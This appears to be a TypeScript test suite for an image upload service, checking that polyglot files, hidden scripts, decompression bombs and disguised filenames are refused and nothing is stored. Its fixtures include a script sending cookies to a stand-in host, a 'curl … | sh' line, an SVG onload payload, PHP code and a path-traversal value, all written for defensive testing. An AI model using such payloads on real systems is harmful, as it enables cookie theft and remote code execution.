import { createHash } from 'node:crypto'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { crc32, deflateSync } from 'node:zlib'

import sharp from 'sharp'
import { beforeEach, describe, expect, it } from 'vitest'

import type { Actor } from '@/lib/auth/actor'
import { InvalidError } from '@/lib/errors'
import { confirmUpload } from '@/lib/photographs/confirm-upload'
import { requestUpload } from '@/lib/photographs/request-upload'
import { requestUploadSchema, type RequestUploadInput } from '@/lib/photographs/schema'
import { fieldErrorsOf } from '@/lib/server/map-error'
import { listObjects, putObject } from '@/lib/storage/objects'
import { Photograph, type Line } from '@/models'
import { makeActor, makeBrand } from '@/tests/factories/brand'
import { makeLine } from '@/tests/factories/line'
import { announce, makePicture } from '@/tests/factories/photograph'

let actor: Actor
let line: Line

beforeEach(async () => {
  actor = await makeActor(await makeBrand())
  line = await makeLine({ id: actor.brandId })
})

const SCRIPT = '<script>fetch("//elsewhere.example/?" + document.cookie)</script>'
const HTML = `<!doctype html><title>A</title>${SCRIPT}`
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
const SIGNATURES = {
  jpeg: 'ffd8ffe000104a46494600010100000100010000',
  png: '89504e470d0a1a0a',
  webp: '52494646240000005745425056503820',
  tiff: '49492a0008000000',
  gif: '474946383961',
}

const joined = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string)))
const behindSignature = (format: keyof typeof SIGNATURES, text: string) =>
  joined(Buffer.from(SIGNATURES[format], 'hex'), text.padEnd(4000))

/** A chunk of a PNG. @source PNG (Third Edition) § 5.3 */
function chunk(type: string, data: Buffer): Buffer {
  const typed = joined(type, data)
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(typed))
  return joined(length, typed, sum)
}

/** A PNG of some hundred bytes that says it is so many pixels wide and high. */
function claiming(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8)
  return joined(
    Buffer.from(SIGNATURES.png, 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(4096))),
    chunk('IEND', Buffer.alloc(0)),
  )
}

/** A JPEG whose frame header is rewritten to claim a size. @source ITU-T T.81 § B.2.2 */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const bytes = await makePicture()
  const frame = bytes.indexOf(Buffer.from('ffc0', 'hex'))
  bytes.writeUInt16BE(height, frame + 5)
  bytes.writeUInt16BE(width, frame + 7)
  return bytes
}

/** A whole JPEG with a comment in it. @source ITU-T T.81 § B.2.4.5 */
async function withComment(text: string): Promise<Buffer> {
  const bytes = await makePicture()
  const length = Buffer.alloc(2)
  length.writeUInt16BE(text.length + 2)
  return joined(bytes.subarray(0, 2), Buffer.from('fffe', 'hex'), length, text, bytes.subarray(2))
}

const png = async () =>
  sharp(await makePicture())
    .png()
    .toBuffer()

interface Attack {
  /** What the store holds. */
  bytes: Buffer
  /** What was announced, where that is something else. */
  announced?: Partial<RequestUploadInput>
  /** The type the object came with, where that is not as announced. */
  storedAs?: string
}

const HIDDEN = /page or a script hidden/
const OTHER = /not the one that was sent/
const DAMAGED = /damaged or cut short/
const VAST = /more than 120 megapixels/

/** What is sent although its announcement was in order. */
const ATTACKS: [string, () => Promise<Attack> | Attack, RegExp][] = [
  ...(['jpeg', 'webp', 'tiff'] as const).flatMap((format): typeof ATTACKS => [
    [
      `a page behind the first bytes of a ${format}`,
      () => ({ bytes: behindSignature(format, HTML) }),
      HIDDEN,
    ],
    [
      `an SVG behind the first bytes of a ${format}`,
      () => ({ bytes: behindSignature(format, SVG) }),
      HIDDEN,
    ],
  ]),
  [
    'a page behind the first bytes of a png',
    () => ({ bytes: behindSignature('png', HTML) }),
    /not a picture/,
  ],
  [
    'an SVG behind the first bytes of a png',
    () => ({ bytes: behindSignature('png', SVG) }),
    /SVG drawing/,
  ],
  ['a page that is a GIF', () => ({ bytes: behindSignature('gif', HTML) }), /taken as JPEG, PNG/],
  ['an SVG', () => ({ bytes: joined(SVG.padEnd(400)) }), /SVG drawing/],
  ['a page', () => ({ bytes: joined(HTML.padEnd(400)) }), /not a picture/],
  [
    'a script',
    () => ({ bytes: joined('#!/bin/sh\ncurl elsewhere.example | sh\n'.padEnd(400)) }),
    /not a picture/,
  ],
  ['a PDF', () => ({ bytes: joined('%PDF-1.7\n'.padEnd(400)) }), /not a picture/],
  [
    'a whole JPEG with a script behind it',
    async () => ({ bytes: joined(await makePicture(), SCRIPT) }),
    HIDDEN,
  ],
  [
    'a whole JPEG with a page in its comment',
    async () => ({ bytes: await withComment(HTML) }),
    HIDDEN,
  ],
  ['a whole PNG with an SVG behind it', async () => ({ bytes: joined(await png(), SVG) }), HIDDEN],
  [
    'a whole PNG with PHP behind it',
    async () => ({ bytes: joined(await png(), '<?php phpinfo(); ?>') }),
    HIDDEN,
  ],
  [
    'a script across the border between two looks',
    async () => {
      const bytes = joined(await makePicture(), Buffer.alloc(3 * 1024 * 1024))
      bytes.write(SCRIPT, 2 * 1024 * 1024 - 4, 'latin1')
      return { bytes }
    },
    HIDDEN,
  ],
  ['a JPEG cut short', async () => ({ bytes: (await makePicture()).subarray(0, 2500) }), DAMAGED],
  ['a PNG cut short', async () => ({ bytes: (await png()).subarray(0, -2000) }), DAMAGED],
  [
    'a PNG of a few bytes that claims 121 megapixels',
    () => ({ bytes: claiming(11_000, 11_000) }),
    VAST,
  ],
  [
    'one that claims 4,600 gigapixels',
    () => ({ bytes: claiming(2 ** 31 - 1, 2 ** 31 - 1) }),
    /120 megapixels|damaged/,
  ],
  [
    'one that claims 119 megapixels it does not have',
    () => ({ bytes: claiming(11_000, 10_800) }),
    DAMAGED,
  ],
  [
    'a JPEG that claims 4,295 megapixels',
    async () => ({ bytes: await jpegClaiming(65_500, 65_500) }),
    VAST,
  ],
  [
    '41 MB, announced as 1 MB',
    () => ({ bytes: Buffer.alloc(41_000_000, 1), announced: { byteLength: 1_000_000 } }),
    OTHER,
  ],
  [
    'bytes of another hash',
    async () => {
      const sha256 = createHash('sha256').update('something else').digest('hex')
      return { bytes: await makePicture(), announced: { sha256 } }
    },
    OTHER,
  ],
  [
    'a picture stored as a page',
    async () => ({ bytes: await makePicture(), storedAs: 'text/html' }),
    OTHER,
  ],
]

/** Announces, puts the bytes into the store past its form, and confirms. */
async function attack({ bytes, announced, storedAs }: Attack): Promise<unknown> {
  const input = requestUploadSchema.parse(announce(line, bytes, announced))
  const answer = await requestUpload(actor, input)
  if (answer.kind !== 'upload') throw new Error('The line has that file already.')
  const key = `originals/${actor.brandId}/${answer.photographId}`
  await putObject(key, bytes, storedAs ?? input.contentType)
  return confirmUpload(actor, answer).catch((error: unknown) => error)
}

/** What the brand's line and its part of the store hold. */
async function held(): Promise<{ rows: number; objects: number }> {
  const rows = await Photograph.count({ where: { lineId: line.id }, paranoid: false })
  const keys: string[] = []
  for (const prefix of ['originals', 'derivatives']) {
    for await (const { key } of listObjects(`${prefix}/${actor.brandId}/`)) keys.push(key)
  }
  return { rows, objects: keys.length }
}
const NOTHING = { rows: 0, objects: 0 }

describe('what is sent to do harm is refused in words, and nothing of it is kept', () => {
  it.each(ATTACKS)('%s', async (_, make, words) => {
    const refusal = await attack(await make())
    expect(refusal).toBeInstanceOf(InvalidError)
    expect((refusal as Error).message).toMatch(words)
    expect(await held()).toEqual(NOTHING)
  })

  it('an honest photograph after all of it is taken', async () => {
    expect(await attack({ bytes: await makePicture() })).toMatchObject({ kind: 'added' })
  })
})

describe('what is announced to do harm is refused before anything is sent', () => {
  it.each<[string, Partial<RequestUploadInput> | Record<string, unknown>, string, RegExp]>([
    ['41 MB', { byteLength: 41_000_000 }, 'byteLength', /up to 40 MB/],
    ['less than nothing', { byteLength: -1 }, 'byteLength', /./],
    ['an SVG', { contentType: 'image/svg+xml' }, 'contentType', /taken as JPEG/],
    ['a page', { contentType: 'text/html' }, 'contentType', /taken as JPEG/],
    ['a type with another behind it', { contentType: 'image/jpeg, text/html' }, 'contentType', /./],
    ['a hash that is none', { sha256: '../../etc/passwd' }, 'sha256', /./],
    [
      'a page named as a picture besides',
      { fileName: 'hillside.jpg.html' },
      'fileName',
      /page or a program/,
    ],
    [
      'a picture named as a page besides',
      { fileName: 'hillside.PHP.jpg' },
      'fileName',
      /page or a program/,
    ],
    [
      'a drawing named as a picture',
      { fileName: 'hillside.svg.png' },
      'fileName',
      /page or a program/,
    ],
    ['a program', { fileName: 'hillside.exe' }, 'fileName', /page or a program/],
    ['a place of its own choosing', { objectKey: 'originals/x' }, '', /objectKey/],
  ])('%s', async (_, changes, field, words) => {
    const given = { ...announce(line, await makePicture()), ...changes }
    const result = requestUploadSchema.safeParse(given)
    expect(result.success).toBe(false)
    expect(fieldErrorsOf(result.error!)[field]?.join()).toMatch(words)
    expect(await held()).toEqual(NOTHING)
  })

  it.each([
    'hillside.jpg',
    'IMG_2026.10.03.JPEG',
    'a.b.c.tif',
    'photograph',
    'Pam’s html walk.webp',
  ])('not so “%s”', async (fileName) => {
    const given = announce(line, await makePicture(), { fileName })
    expect(requestUploadSchema.safeParse(given).success).toBe(true)
  })
})

/** What this process may be heavier by after twenty attacks than after the first few, in bytes. */
const GROWTH = 60e6

const some = () => Math.floor(Math.random() * 250)
const RUNS: [string, () => Promise<Attack> | Attack][] = [
  ['small files that claim 119 megapixels', () => ({ bytes: claiming(11_000, 10_500 + some()) })],
  ['small files that claim 121 megapixels', () => ({ bytes: claiming(11_000, 11_000 + some()) })],
  [
    'files of 5 MB with a script at their end',
    () => ({
      bytes: joined(Buffer.from(SIGNATURES.jpeg, 'hex'), Buffer.alloc(5e6, some()), SCRIPT),
    }),
  ],
  [
    'files of 41 MB announced as 1 MB',
    () => ({ bytes: Buffer.alloc(41e6), announced: { byteLength: 1e6 + some() } }),
  ],
]

/** Bytes this process holds once its garbage is collected. */
function weight(): number {
  setFlagsFromString('--expose-gc')
  const collect = runInNewContext('gc') as () => void
  collect()
  return process.memoryUsage().rss
}

describe('memory stays flat over twenty, one after the other:', () => {
  it.each(RUNS)(
    '%s',
    async (_, make) => {
      for (let n = 0; n < 5; n++) await attack(await make())
      const before = weight()
      for (let n = 0; n < 20; n++) {
        expect(await attack(await make())).toBeInstanceOf(InvalidError)
      }
      expect(weight() - before).toBeLessThan(GROWTH)
    },
    120_000,
  )
})
